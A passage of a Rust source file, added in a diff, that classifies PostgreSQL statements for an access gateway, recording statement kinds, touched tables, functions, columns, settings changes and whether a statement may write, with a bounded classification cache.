@@ -1,0 +1,2365 @@
+//! Statement classification with PostgreSQL's own grammar (pg_query).
+//!
+//! Every simple Query and every Parse is parsed by the real PostgreSQL parser (libpg_query), so
+//! comments, dollar quotes, `U&"..."` identifiers, `E'...'` strings, quoted keywords and odd
+//! white space are read exactly as the server reads them, and every statement of a multi-statement
+//! text is seen. Text the parser refuses is a [`ClassifyError`], and the gateway refuses it too.
+//!
+//! The parse tree is walked generically: it is serialized (every pg_query node derives
+//! `serde::Serialize`) into a small tree of named nodes, and the walk visits every field of every
+//! node, so nothing nested escapes (subqueries anywhere, CTEs, LATERAL, UNION branches, function
+//! arguments, ON CONFLICT, RETURNING, DEFAULT expressions, rule actions, SQL function bodies,
+//! node types added by future PostgreSQL versions). pg_query's own `nodes()` iterator is not used:
+//! it covers a subset of node types (no PREPARE, DO, CREATE FUNCTION bodies, ON CONFLICT SET
+//! lists, column defaults, ...).
+//!
+//! What the classification assumes of the session (the proxy must make it true):
+//! - `standard_conforming_strings` is on and `client_encoding` is UTF8: under other settings the
+//!   server splits a text differently than this parser. Statements that set either to another
+//!   value are refused here; the proxy pins both at startup and should watch ParameterStatus.
+//! - Unqualified relation names resolve to `public` (or `pg_catalog` for `pg_*` names, which
+//!   PostgreSQL searches first): a session whose `search_path` names other schemas first defeats
+//!   table rules. [`Statement::settings`] names every setting a statement changes, so the proxy
+//!   can pin `search_path` too.
+//!
+//! Writes (`Statement::writes`) follow what PostgreSQL refuses in a read-only transaction (DML,
+//! DDL, COPY FROM, data-modifying CTEs, `SELECT ... FOR UPDATE/SHARE` and the other locking
+//! reads, `SELECT INTO`, `LOCK` stronger than ROW EXCLUSIVE, ...), plus what it lets through
+//! there but changes state: any function that is not on a built-in allowlist of read-only
+//! functions (so `nextval`, `setval`, `set_config`, `lo_*` and every user-defined function),
+//! operators that are not built-in symbols, DO, CALL, NOTIFY, VACUUM/ANALYZE/CLUSTER/REINDEX,
+//! CHECKPOINT, LOAD and ALTER SYSTEM. Functions and operators are trusted by name only when called
+//! unqualified or through `pg_catalog`: shadowing a built-in name takes DDL.
+
+use std::collections::{HashMap, HashSet};
+use std::hash::{BuildHasher, BuildHasherDefault, Hasher, RandomState};
+use std::sync::{Arc, Mutex, OnceLock, PoisonError};
+
+use agentgate_crds::policy::StatementKind;
+use pg_query::protobuf;
+
+use tree::V;
+
+/// Longest text the [`Classifier`] caches; longer texts are classified every time, so the cache
+/// holds at most `capacity` entries of about twice this size.
+pub const MAX_CACHED_TEXT: usize = 16 * 1024;
+
+/// Every statement of one simple-Query or Parse text.
+#[derive(Debug, Clone, PartialEq)]
+pub struct Classified {
+    /// In order; empty for a text without statements (white space, comments, `;`).
+    pub statements: Vec<Statement>,
+}
+
+/// One statement, and everything it would do.
+#[derive(Debug, Clone, PartialEq)]
+pub struct Statement {
+    /// `[0]` is the statement's own, most specific kind (`Drop`, never `Ddl`); then the kinds of
+    /// everything it would also execute: data-modifying CTEs and other nested DML, the statement
+    /// EXPLAIN ANALYZE or PREPARE wraps, `SetRole`/`Set` for `set_config` calls, `Create` for
+    /// `SELECT INTO`. Deduplicated.
+    pub kinds: Vec<StatementKind>,
+    /// The statement's own source text (leading comments included), trimmed.
+    pub text: String,
+    /// Every relation touched: through CTEs, subqueries and views named, DML and DDL targets,
+    /// COPY, LOCK, TRUNCATE, GRANT, DROP, COMMENT. `schema.table`, case as PostgreSQL reads it
+    /// (unquoted names are lowercase); unqualified names are `public.x`, or `pg_catalog.pg_x` for
+    /// `pg_*` names. CTE names are not tables.
+    pub tables: Vec<String>,
+    /// Every function called anywhere (including CTEs, subqueries, defaults, CALL, and the
+    /// functions CREATE TRIGGER and CREATE EVENT TRIGGER attach), by its name without schema.
+    pub functions: Vec<String>,
+    /// Column names referenced anywhere (select lists, conditions, SET and INSERT column lists),
+    /// `*` for a star, and for a whole-row reference (`row_to_json(t)`, `SELECT t FROM users t`)
+    /// the name itself and the table it stands for (`users`).
+    pub columns: Vec<String>,
+    /// An UPDATE or DELETE, anywhere in the statement, without WHERE (`WHERE CURRENT OF` is one).
+    pub without_where: bool,
+    /// The statement may write (see the module documentation).
+    pub writes: bool,
+    /// For COPY.
+    pub copy: Option<CopyInfo>,
+    /// SQL-level `PREPARE name AS <statement>`, with the inner statement classified (its kinds,
+    /// tables, functions, columns and `writes` are also the PREPARE's own).
+    pub prepare: Option<(String, Box<Statement>)>,
+    /// SQL-level `EXECUTE name`, also inside `EXPLAIN [ANALYZE]` and `CREATE TABLE AS`.
+    pub execute: Option<String>,
+    /// `DEALLOCATE name` is `Some(Some(name))`; `DEALLOCATE ALL` and `DISCARD ALL` are `Some(None)`.
+    pub deallocate: Option<Option<String>>,
+    /// The parse node, such as `SelectStmt`, `AlterSystemStmt`, `LoadStmt` (guardrails, logs).
+    pub node: &'static str,
+    /// Settings the statement changes when executed (SET, RESET, `set_config`), lowercase; `*`
+    /// for RESET ALL, DISCARD ALL and `set_config` with a computed name.
+    pub settings: Vec<String>,
+}
+
+impl Statement {
+    /// The statement's own kind (`kinds[0]`).
+    pub fn kind(&self) -> StatementKind {
+        self.kinds.first().copied().unwrap_or(StatementKind::Other)
+    }
+}
+
+/// What a COPY moves, and where.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct CopyInfo {
+    /// COPY FROM (into a table); otherwise COPY TO.
+    pub from: bool,
+    /// TO/FROM PROGRAM: runs a program on the database server.
+    pub program: bool,
+    /// TO/FROM a file on the database server (not STDIN/STDOUT, not PROGRAM).
+    pub file: bool,
+}
+
+/// Text the PostgreSQL parser refuses (or that the gateway cannot classify safely).
+#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
+#[error("{message}{}", .position.map(|p| format!(" at character {p}")).unwrap_or_default())]
+pub struct ClassifyError {
+    pub message: String,
+    /// 1-based character position, when known.
+    pub position: Option<usize>,
+}
+
+impl ClassifyError {
+    fn new(message: impl Into<String>) -> Self {
+        Self {
+            message: message.into(),
+            position: None,
+        }
+    }
+
+    fn from_pg(e: pg_query::Error, sql: &str) -> Self {
+        match e {
+            pg_query::Error::Parse(m) => {
+                // pg_query drops the parser's cursor position; the end of input is the one case
+                // the message itself locates.
+                let position = m.ends_with("at end of input").then(|| sql.chars().count() + 1);
+                Self { message: m, position }
+            }
+            pg_query::Error::Conversion(_) => Self::new("the statement contains a NUL byte"),
+            pg_query::Error::Decode(_) => Self::new("the statement is too deeply nested to classify"),
+            other => Self::new(other.to_string()),
+        }
+    }
+}
+
+/// Classifies every statement of `sql` (uncached).
+pub fn classify(sql: &str) -> Result<Classified, ClassifyError> {
+    let parsed = pg_query::parse(sql).map_err(|e| ClassifyError::from_pg(e, sql))?;
+    let mut statements = Vec::with_capacity(parsed.protobuf.stmts.len());
+    for raw in &parsed.protobuf.stmts {
+        let Some(stmt) = &raw.stmt else { continue };
+        let node = tree::build(&**stmt)
+            .map_err(|e| ClassifyError::new(format!("cannot read the parse tree: {e}")))?;
+        let start = usize::try_from(raw.stmt_location).unwrap_or(0);
+        let end = match usize::try_from(raw.stmt_len) {
+            Ok(0) | Err(_) => sql.len(),
+            Ok(len) => start.saturating_add(len).min(sql.len()),
+        };
+        let text = sql.get(start..end).unwrap_or(sql);
+        statements.push(statement(&node, text)?);
+    }
+    Ok(Classified { statements })
+}
+
+/// Classifies one statement's parse tree; `text` is its source.
+fn statement(node: &V, text: &str) -> Result<Statement, ClassifyError> {
+    let mut a = Analysis::default();
+    a.top(node, text)?;
+    a.finish(text)
+}
+
+// ---------------------------------------------------------------------------------------------
+// The cache.
+
+/// Classification with a bounded cache keyed by the exact text.
+///
+/// Why the exact text and not pg_query's fingerprint (which ignores literal values, so
+/// `... WHERE aid = 1` and `... WHERE aid = 2` would share an entry): a fingerprint is not a
+/// sound key for this classification. It ignores constants (`set_config('role', ..)` and
+/// `set_config('work_mem', ..)` fingerprint alike), the names of prepared statements
+/// (`EXECUTE a` and `EXECUTE b`), digits in table names (`orders_2023` and `orders_9999`), the
+/// names of temporary tables, and aliases (`SELECT t FROM users t`, a whole-row read, and
+/// `SELECT t FROM users u`, a column); and [`Statement::text`] is the text itself, so a hit
+/// would need the text split again. A fingerprint still runs the parser: in `benches/sql.rs` it
+/// costs about a quarter of a classification (2.3 µs against 9.9 µs for pgbench's SELECT), an
+/// exact-text hit about 30 ns. Clients that repeat statements (prepared statements, drivers
+/// with parameters, ORMs, health checks) repeat the exact text.
+///
+/// Bounded: `capacity` entries at most, in shards of two generations each. New entries go to the
+/// current generation; when it is full it becomes the previous one (whose entries are dropped),
+/// and a hit in the previous generation moves the entry back to the current one, so entries in
+/// use stay and the rest age out, at O(1) cost. Texts longer than [`MAX_CACHED_TEXT`] are not
+/// cached; errors are not cached.
+pub struct Classifier {
+    shards: Box<[Mutex<Shard>]>,
+    /// Entries per generation per shard; 0 disables the cache.
+    generation: usize,
+    hasher: RandomState,
+}
+
+impl std::fmt::Debug for Classifier {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.debug_struct("Classifier")
+            .field("entries", &self.len())
+            .field("capacity", &(self.generation * 2 * self.shards.len()))
+            .finish()
+    }
+}
+
+/// A `u64` key hashed already (by the classifier's keyed hasher).
+#[derive(Default)]
+struct PreHashed(u64);
+
+impl Hasher for PreHashed {
+    fn finish(&self) -> u64 {
+        self.0
+    }
+
+    fn write(&mut self, bytes: &[u8]) {
+        for b in bytes {
+            self.0 = self.0.rotate_left(8) ^ u64::from(*b);
+        }
+    }
+
+    fn write_u64(&mut self, n: u64) {
+        self.0 = n;
+    }
+}
+
+type Map = HashMap<u64, Cached, BuildHasherDefault<PreHashed>>;
+
+struct Cached {
+    text: Box<str>,
+    value: Arc<Classified>,
+}
+
+#[derive(Default)]
+struct Shard {
+    current: Map,
+    previous: Map,
+}
+
+impl Shard {
+    fn insert(&mut self, key: u64, entry: Cached, generation: usize) {
+        if self.current.len() >= generation && !self.current.contains_key(&key) {
+            self.previous = std::mem::take(&mut self.current);
+        }
+        self.current.insert(key, entry);
+    }
+}
+
+impl Classifier {
+    /// A classifier caching up to `capacity` texts (0: no cache).
+    pub fn new(capacity: usize) -> Self {
+        let shards = if capacity >= 1024 { 8 } else { 1 };
+        let generation = if capacity == 0 {
+            0
+        } else {
+            (capacity / (2 * shards)).max(1)
+        };
+        Self {
+            shards: (0..shards).map(|_| Mutex::new(Shard::default())).collect(),
+            generation,
+            hasher: RandomState::new(),
+        }
+    }
+
+    /// Cached classification of one simple-Query or Parse text.
+    pub fn classify(&self, sql: &str) -> Result<Arc<Classified>, ClassifyError> {
+        if self.generation == 0 || sql.len() > MAX_CACHED_TEXT {
+            return classify(sql).map(Arc::new);
+        }
+        let key = self.hasher.hash_one(sql);
+        // The high bits pick the shard; the map uses the low ones.
+        let shard = &self.shards[(key >> 56) as usize % self.shards.len()];
+        {
+            let mut s = shard.lock().unwrap_or_else(PoisonError::into_inner);
+            if let Some(c) = s.current.get(&key)
+                && &*c.text == sql
+            {
+                return Ok(c.value.clone());
+            }
+            if let Some(c) = s.previous.remove(&key)
+                && &*c.text == sql
+            {
+                let value = c.value.clone();
+                s.insert(key, c, self.generation);
+                return Ok(value);
+            }
+        }
+        // Classified outside the lock: a slow text does not hold up the shard.
+        let value = Arc::new(classify(sql)?);
+        let entry = Cached {
+            text: sql.into(),
+            value: value.clone(),
+        };
+        shard
+            .lock()
+            .unwrap_or_else(PoisonError::into_inner)
+            .insert(key, entry, self.generation);
+        Ok(value)
+    }
+
+    /// Number of cached texts.
+    pub fn len(&self) -> usize {
+        self.shards
+            .iter()
+            .map(|s| {
+                let s = s.lock().unwrap_or_else(PoisonError::into_inner);
+                s.current.len() + s.previous.len()
+            })
+            .sum()
+    }
+
+    /// Whether nothing is cached.
+    pub fn is_empty(&self) -> bool {
+        self.len() == 0
+    }
+}
+
+// ---------------------------------------------------------------------------------------------
+// The walk.
+
+/// What one statement does, gathered while walking its tree.
+#[derive(Default)]
+struct Analysis<'t> {
+    node: &'static str,
+    kinds: Vec<StatementKind>,
+    tables: Vec<String>,
+    functions: Vec<String>,
+    columns: Vec<String>,
+    without_where: bool,
+    writes: bool,
+    copy: Option<CopyInfo>,
+    prepare: Option<(String, Box<Statement>)>,
+    execute: Option<String>,
+    deallocate: Option<Option<String>>,
+    settings: Vec<String>,
+    /// CTE names in scope.
+    ctes: Vec<&'t str>,
+    /// (alias, relation name) of every relation with an alias.
+    aliases: Vec<(&'t str, &'t str)>,
+    /// Aliases of FROM items that are not relations (joins, subqueries, functions), and CTE names.
+    item_aliases: Vec<&'t str>,
+    /// Single-name column references: whole rows when they name a relation.
+    single_names: Vec<&'t str>,
+    /// Why the statement must be refused although it parses.
+    refused: Option<String>,
+}
+
+impl<'t> Analysis<'t> {
+    fn push_kind(&mut self, k: StatementKind) {
+        if !self.kinds.contains(&k) {
+            self.kinds.push(k);
+        }
+    }
+
+    /// The statement's own kind and command-level facts, then everything inside it.
+    fn top(&mut self, node: &'t V, text: &str) -> Result<(), ClassifyError> {
+        use StatementKind as K;
+        self.node = node.name();
+        let kind = match self.node {
+            "ExplainStmt" => return self.explain(node),
+            "PrepareStmt" => return self.prepare(node, text),
+            "SelectStmt" => K::Select,
+            "InsertStmt" => K::Insert,
+            "UpdateStmt" => K::Update,
+            "DeleteStmt" => K::Delete,
+            "MergeStmt" => K::Merge,
+            "CopyStmt" => {
+                let from = node.flag("is_from");
+                let program = node.flag("is_program");
+                let file = !program && !node.str("filename").is_empty();
+                self.copy = Some(CopyInfo { from, program, file });
+                self.writes |= from || program || file;
+                K::Copy
+            }
+            "DoStmt" => {
+                self.writes = true;
+                K::Do
+            }
+            "CallStmt" => {
+                self.writes = true;
+                K::Call
+            }
+            "ExecuteStmt" => K::Execute,
+            "DeallocateStmt" => {
+                self.deallocate = Some((!node.flag("isall")).then(|| node.str("name").to_string()));
+                K::Deallocate
+            }
+            "VariableSetStmt" => self.variable_set(node),
+            "VariableShowStmt" => K::Show,
+            "TransactionStmt" | "ConstraintsSetStmt" => K::Transaction,
+            "ListenStmt" | "UnlistenStmt" => K::Listen,
+            "NotifyStmt" => {
+                // Other sessions act on notifications.
+                self.writes = true;
+                K::Notify
+            }
+            "LockStmt" => {
+                // PostgreSQL refuses modes above ROW EXCLUSIVE in read-only transactions.
+                let mode = match node.int("mode") {
+                    0 => pg_query::LockMode::AccessExclusiveLock as i64,
+                    m => m,
+                };
+                self.writes |= mode > pg_query::LockMode::RowExclusiveLock as i64;
+                K::Lock
+            }
+            "VacuumStmt" => {
+                self.writes = true;
+                K::Vacuum
+            }
+            "DiscardStmt" => {
+                if node.int("target") == protobuf::DiscardMode::DiscardAll as i64 {
+                    // DISCARD ALL is SET SESSION AUTHORIZATION DEFAULT, RESET ALL, DEALLOCATE ALL, ...
+                    self.deallocate = Some(None);
+                    self.settings.push("*".into());
+                    K::SetRole
+                } else {
+                    K::Other
+                }
+            }
+            // Cursors read: DECLARE is its query, FETCH and MOVE read from it.
+            "DeclareCursorStmt" | "FetchStmt" | "ClosePortalStmt" => K::Select,
+            "GrantStmt" | "GrantRoleStmt" => {
+                self.writes = true;
+                if node.flag("is_grant") {
+                    K::Grant
+                } else {
+                    K::Revoke
+                }
+            }
+            "AlterDefaultPrivilegesStmt" => {
+                self.writes = true;
+                let grant = node.get("action").is_some_and(|a| a.flag("is_grant"));
+                if grant { K::Grant } else { K::Revoke }
+            }
+            "TruncateStmt" => {
+                self.writes = true;
+                K::Truncate
+            }
+            "CommentStmt" | "SecLabelStmt" | "RenameStmt" | "ReassignOwnedStmt" => {
+                self.writes = true;
+                K::Alter
+            }
+            "DefineStmt"
+            | "IndexStmt"
+            | "RuleStmt"
+            | "CompositeTypeStmt"
+            | "ViewStmt"
+            | "ImportForeignSchemaStmt" => {
+                self.writes = true;
+                K::Create
+            }
+            n if n.starts_with("Create") => {
+                self.writes = true;
+                K::Create
+            }
+            n if n.starts_with("Alter") => {
+                self.writes = true;
+                K::Alter
+            }
+            n if n.starts_with("Drop") => {
+                self.writes = true;
+                K::Drop
+            }
+            // LOAD, CHECKPOINT, CLUSTER, REINDEX, REFRESH MATERIALIZED VIEW, and anything the
+            // gateway does not know: Other, and assumed to write.
+            _ => {
+                self.writes = true;
+                K::Other
+            }
+        };
+        self.push_kind(kind);
+        self.walk(node, "", "");
+        Ok(())
+    }
+
+    /// SET and RESET: identity changes are SetRole, transaction characteristics Transaction.
+    fn variable_set(&mut self, node: &'t V) -> StatementKind {
+        use protobuf::VariableSetKind as S;
+        let kind = node.int("kind");
+        if kind == S::VarResetAll as i64 {
+            // PostgreSQL keeps role and session_authorization on RESET ALL; classified as an
+            // identity change anyway, so a policy on SetRole sees it.
+            self.settings.push("*".into());
+            return StatementKind::SetRole;
+        }
+        if kind == S::VarSetMulti as i64 {
+            return StatementKind::Transaction;
+        }
+        // Setting names are case-insensitive.
+        let name = node.str("name").to_ascii_lowercase();
+        if kind == S::VarSetValue as i64 {
+            let value = node.list("args").first().and_then(const_text);
+            self.check_setting(&name, value.as_deref());
+        }
+        let role = matches!(name.as_str(), "role" | "session_authorization");
+        self.settings.push(name);
+        if role {
+            StatementKind::SetRole
+        } else {
+            StatementKind::Set
+        }
+    }
+
+    /// Refuses settings under which the server would read text differently than this parser.
+    fn check_setting(&mut self, name: &str, value: Option<&str>) {
+        let value = value.map(str::to_ascii_lowercase);
+        match name {
+            "standard_conforming_strings"
+                if !matches!(value.as_deref(), Some("on" | "true" | "yes" | "1")) =>
+            {
+                self.refused = Some(
+                    "standard_conforming_strings cannot be turned off through the gateway: statements are checked as PostgreSQL reads them with it on"
+                        .into(),
+                );
+            }
+            "client_encoding" => {
+                let clean: Option<String> =
+                    value.map(|v| v.chars().filter(char::is_ascii_alphanumeric).collect());
+                if !matches!(clean.as_deref(), Some("utf8" | "unicode")) {
+                    self.refused = Some(
+                        "client_encoding cannot be changed from UTF8 through the gateway: statements are checked as UTF-8 text"
+                            .into(),
+                    );
+                }
+            }
+            _ => {}
+        }
+    }
+
+    /// EXPLAIN lists what it plans; EXPLAIN ANALYZE also runs it, so it is everything it runs.
+    fn explain(&mut self, node: &'t V) -> Result<(), ClassifyError> {
+        let analyze = node
+            .list("options")
+            .iter()
+            .any(|o| o.str("defname").eq_ignore_ascii_case("analyze") && !is_false(o.get("arg")));
+        let mut inner = Analysis::default();
+        if let Some(query) = node.get("query") {
+            inner.top(query, "")?;
+        }
+        inner.resolve_whole_rows();
+        self.kinds = vec![if analyze {
+            StatementKind::ExplainAnalyze
+        } else {
+            StatementKind::Explain
+        }];
+        self.tables = inner.tables;
+        self.functions = inner.functions;
+        self.columns = inner.columns;
+        // EXPLAIN [ANALYZE] EXECUTE plans (and runs) the prepared statement.
+        self.execute = inner.execute;
+        if analyze {
+            for k in inner.kinds {
+                self.push_kind(k);
+            }
+            self.without_where = inner.without_where;
+            self.writes = inner.writes;
+            self.settings = inner.settings;
+            self.refused = inner.refused;
+        }
+        Ok(())
+    }
+
+    /// PREPARE is what it prepares, and keeps it for EXECUTE.
+    fn prepare(&mut self, node: &'t V, text: &str) -> Result<(), ClassifyError> {
+        let inner_text = prepared_text(text);
+        let inner = match node.get("query") {
+            Some(q) => statement(q, &inner_text)?,
+            None => return Err(ClassifyError::new("PREPARE without a statement")),
+        };
+        self.kinds = vec![StatementKind::Prepare];
+        for k in &inner.kinds {
+            self.push_kind(*k);
+        }
+        self.tables = inner.tables.clone();
+        self.functions = inner.functions.clone();
+        self.columns = inner.columns.clone();
+        self.without_where = inner.without_where;
+        self.writes = inner.writes;
+        self.prepare = Some((node.str("name").to_string(), Box::new(inner)));
+        Ok(())
+    }
+
+    fn finish(mut self, text: &str) -> Result<Statement, ClassifyError> {
+        if let Some(message) = self.refused.take() {
+            return Err(ClassifyError::new(message));
+        }
+        self.resolve_whole_rows();
+        dedup(&mut self.tables);
+        dedup(&mut self.functions);
+        dedup(&mut self.columns);
+        dedup(&mut self.settings);
+        Ok(Statement {
+            kinds: self.kinds,
+            text: text.trim().to_string(),
+            tables: self.tables,
+            functions: self.functions,
+            columns: self.columns,
+            without_where: self.without_where,
+            writes: self.writes,
+            copy: self.copy,
+            prepare: self.prepare,
+            execute: self.execute,
+            deallocate: self.deallocate,
+            node: self.node,
+            settings: self.settings,
+        })
+    }
+
+    /// A single-name column reference that names a relation (or its alias) reads the whole row.
+    fn resolve_whole_rows(&mut self) {
+        for name in std::mem::take(&mut self.single_names) {
+            if let Some((_, rel)) = self.aliases.iter().find(|(a, _)| *a == name) {
+                self.columns.push((*rel).to_string());
+            }
+            // The whole row of a join, subquery or CTE: every column it has.
+            if self.item_aliases.contains(&name) {
+                self.columns.push("*".into());
+            }
+        }
+    }
+
+    fn walk(&mut self, v: &'t V, parent: &'static str, field: &'static str) {
+        match v {
+            V::List(items) => {
+                for i in items {
+                    self.walk(i, parent, field);
+                }
+            }
+            V::Obj(..) => self.walk_node(v, parent, field),
+            _ => {}
+        }
+    }
+
+    fn walk_fields(&mut self, v: &'t V, skip: &[&str]) {
+        if let V::Obj(name, fields) = v {
+            for (k, fv) in fields {
+                if !skip.contains(k) {
+                    self.walk(fv, name, k);
+                }
+            }
+        }
+    }
+
+    fn walk_node(&mut self, v: &'t V, parent: &'static str, field: &'static str) {
+        match v.name() {
+            "RangeVar" => self.range_var(v, parent, field),
+            "FuncCall" => {
+                self.func_call(v);
+                self.walk_fields(v, &["funcname"]);
+            }
+            "ColumnRef" => self.column_ref(v),
+            "AIndirection" => {
+                if let Some(arg) = v.get("arg") {
+                    self.walk(arg, "AIndirection", "arg");
+                }
+                for i in v.list("indirection") {
+                    match i.name() {
+                        "String" => self.columns.extend(i.sval().map(str::to_string)),
+                        "AStar" => self.columns.push("*".into()),
+                        _ => self.walk(i, "AIndirection", "indirection"),
+                    }
+                }
+            }
+            "ResTarget" => {
+                let assigned = matches!(
+                    (parent, field),
+                    (
+                        "UpdateStmt" | "OnConflictClause" | "MergeWhenClause",
+                        "target_list"
+                    ) | ("InsertStmt", "cols")
+                );
+                if assigned && !v.str("name").is_empty() {
+                    self.columns.push(v.str("name").to_string());
+                }
+                self.walk_fields(v, &[]);
+            }
+            "SelectStmt" | "InsertStmt" | "UpdateStmt" | "DeleteStmt" | "MergeStmt" => self.query(v),
+            "Alias" => self.item_aliases.push(v.str("aliasname")),
+            "AExpr" => {
+                self.operator(v.list("name"));
+                self.walk_fields(v, &["name"]);
+            }
+            "SubLink" => {
+                self.operator(v.list("oper_name"));
+                self.walk_fields(v, &["oper_name"]);
+            }
+            "SortBy" => {
+                self.operator(v.list("use_op"));
+                self.walk_fields(v, &["use_op"]);
+            }
+            "ExecuteStmt" => {
+                if self.execute.is_none() {
+                    self.execute = Some(v.str("name").to_string());
+                }
+                self.walk_fields(v, &[]);
+            }
+            "LockingClause" => {
+                // FOR UPDATE / NO KEY UPDATE / SHARE / KEY SHARE write row locks.
+                self.writes = true;
+                self.walk_fields(v, &[]);
+            }
+            "IntoClause" => {
+                // SELECT INTO creates a table.
+                self.writes = true;
+                self.push_kind(StatementKind::Create);
+                self.walk_fields(v, &[]);
+            }
+            "CreateTrigStmt" | "CreateEventTrigStmt" => {
+                // The function runs on every event from now on.
+                let parts = name_parts(v.list("funcname"));
+                if let Some(f) = parts.last() {
+                    self.functions.push((*f).to_string());
+                }
+                self.walk_fields(v, &["funcname"]);
+            }
+            "DropStmt" => {
+                if is_relation_type(v.int("remove_type")) {
+                    for o in v.list("objects") {
+                        let parts = name_parts(std::slice::from_ref(o));
+                        self.qualified_table(&parts);
+                    }
+                }
+                self.walk_fields(v, &["objects"]);
+            }
+            "CommentStmt" | "SecLabelStmt" => {
+                let objtype = v.int("objtype");
+                if let Some(object) = v.get("object") {
+                    let parts = name_parts(std::slice::from_ref(object));
+                    if objtype == protobuf::ObjectType::ObjectColumn as i64 && parts.len() >= 2 {
+                        self.qualified_table(&parts[..parts.len() - 1]);
+                        self.columns.push(parts[parts.len() - 1].to_string());
+                    } else if is_relation_type(objtype) {
+                        self.qualified_table(&parts);
+                    }
+                }
+                self.walk_fields(v, &["object"]);
+            }
+            _ => self.walk_fields(v, &[]),
+        }
+    }
+
+    /// A query (SELECT, or DML anywhere): its kind, its WITH scope, then its parts.
+    fn query(&mut self, v: &'t V) {
+        let name = v.name();
+        let kind = match name {
+            "InsertStmt" => Some(StatementKind::Insert),
+            "UpdateStmt" => Some(StatementKind::Update),
+            "DeleteStmt" => Some(StatementKind::Delete),
+            "MergeStmt" => Some(StatementKind::Merge),
+            _ => None,
+        };
+        if let Some(k) = kind {
+            self.push_kind(k);
+            self.writes = true;
+            // pg_settings' update rule calls set_config: a SET out of sight of the checks above.
+            if let Some(rel) = v.get("relation")
+                && rel.str("relname") == "pg_settings"
+                && matches!(rel.str("schemaname"), "" | "pg_catalog")
+            {
+                self.refused = Some("changing pg_settings is refused through the gateway: use SET".into());
+            }
+        }
+        if matches!(name, "UpdateStmt" | "DeleteStmt") && v.get("where_clause").is_none() {
+            self.without_where = true;
+        }
+        let base = self.ctes.len();
+        if let Some(with) = v.get("with_clause") {
+            let recursive = with.flag("recursive");
+            let ctes = with.list("ctes");
+            let names: Vec<&'t str> = ctes.iter().map(|c| c.str("ctename")).collect();
+            self.item_aliases.extend(names.iter().copied());
+            for (i, cte) in ctes.iter().enumerate() {
+                // A CTE sees the ones before it; with RECURSIVE, all of them (itself included).
+                self.ctes.truncate(base);
+                let visible = if recursive { &names[..] } else { &names[..i] };
+                self.ctes.extend(visible.iter().copied());
+                self.walk(cte, "WithClause", "ctes");
+            }
+            self.ctes.truncate(base);
+            self.ctes.extend(names.iter().copied());
+        }
+        self.walk_fields(v, &["with_clause"]);
+        self.ctes.truncate(base);
+    }
+
+    fn range_var(&mut self, v: &'t V, parent: &'static str, field: &'static str) {
+        let rel = v.str("relname");
+        if let Some(alias) = v.get("alias") {
+            self.aliases.push((alias.str("aliasname"), rel));
+        }
+        self.aliases.push((rel, rel));
+        let schema = v.str("schemaname");
+        // Only FROM items can name a CTE; DML targets, COPY, LOCK and DDL name relations.
+        let from_item = matches!(field, "from_clause" | "using_clause")
+            || (parent, field) == ("MergeStmt", "source_relation")
+            || (parent == "JoinExpr" && matches!(field, "larg" | "rarg"));
+        if schema.is_empty() && from_item && self.ctes.contains(&rel) {
+            return;
+        }
+        self.table(schema, rel);
+    }
+
+    fn table(&mut self, schema: &str, rel: &str) {
+        let schema = if !schema.is_empty() {
+            schema
+        } else if rel.starts_with("pg_") {
+            // pg_catalog is searched before the search_path.
+            "pg_catalog"
+        } else {
+            "public"
+        };
+        self.tables.push(format!("{schema}.{rel}"));
+    }
+
+    /// `[catalog.][schema.]name`.
+    fn qualified_table(&mut self, parts: &[&str]) {
+        match parts {
+            [] => {}
+            [rel] => self.table("", rel),
+            [.., schema, rel] => self.table(schema, rel),
+        }
+    }
+
+    fn func_call(&mut self, v: &'t V) {
+        let parts = name_parts(v.list("funcname"));
+        let Some(&name) = parts.last() else { return };
+        let schema = if parts.len() >= 2 {
+            parts[parts.len() - 2]
+        } else {
+            ""
+        };
+        self.functions.push(name.to_string());
+        if name.eq_ignore_ascii_case("set_config") {
+            self.set_config(v.list("args"));
+        }
+        let trusted_path = schema.is_empty() || schema == "pg_catalog";
+        if !(trusted_path && read_only_functions().contains(name)) {
+            self.writes = true;
+        }
+    }
+
+    /// `set_config(name, value, local)`: a SetRole when it may change the role.
+    fn set_config(&mut self, args: &'t [V]) {
+        match args.first().and_then(const_text) {
+            Some(name) => {
+                let name = name.to_ascii_lowercase();
+                let value = args.get(1).and_then(const_text);
+                self.check_setting(&name, value.as_deref());
+                let role = matches!(name.as_str(), "role" | "session_authorization");
+                self.push_kind(if role {
+                    StatementKind::SetRole
+                } else {
+                    StatementKind::Set
+                });
+                self.settings.push(name);
+            }
+            // A computed name may be any setting.
+            None => {
+                self.push_kind(StatementKind::SetRole);
+                self.settings.push("*".into());
+            }
+        }
+    }
+
+    fn operator(&mut self, name: &'t [V]) {
+        let parts = name_parts(name);
+        let Some(&op) = parts.last() else { return };
+        let schema = if parts.len() >= 2 {
+            parts[parts.len() - 2]
+        } else {
+            ""
+        };
+        if !((schema.is_empty() || schema == "pg_catalog") && BUILTIN_OPERATORS.contains(&op)) {
+            self.writes = true;
+        }
+    }
+
+    fn column_ref(&mut self, v: &'t V) {
+        let fields = v.list("fields");
+        for f in fields {
+            if f.name() == "AStar" {
+                self.columns.push("*".into());
+            }
+        }
+        if let Some(last) = fields.last().and_then(V::sval) {
+            self.columns.push(last.to_string());
+            if fields.len() == 1 {
+                self.single_names.push(last);
+            }
+        }
+    }
+}
+
+/// Relation object types (DROP, COMMENT, SECURITY LABEL).
+fn is_relation_type(t: i64) -> bool {
+    use protobuf::ObjectType as O;
+    [
+        O::ObjectTable,
+        O::ObjectView,
+        O::ObjectMatview,
+        O::ObjectForeignTable,
+        O::ObjectSequence,
+        O::ObjectIndex,
+    ]
+    .iter()
+    .any(|o| *o as i64 == t)
+}
+
+/// The strings of a name list (`List` of `String` nodes, or `String` nodes).
+fn name_parts(items: &[V]) -> Vec<&str> {
+    let mut out = Vec::new();
+    for i in items {
+        match i.name() {
+            "String" => out.extend(i.sval()),
+            "List" => out.extend(i.list("items").iter().filter_map(V::sval)),
+            _ => {}
+        }
+    }
+    out
+}
+
+/// The text of a constant (through casts), as the server would read it.
+fn const_text(v: &V) -> Option<String> {
+    match v.name() {
+        "AConst" => v.get("val").and_then(const_text),
+        "TypeCast" => v.get("arg").and_then(const_text),
+        "String" => Some(v.sval().unwrap_or("").to_string()),
+        "Integer" => Some(v.int("ival").to_string()),
+        "Float" => Some(v.str("fval").to_string()),
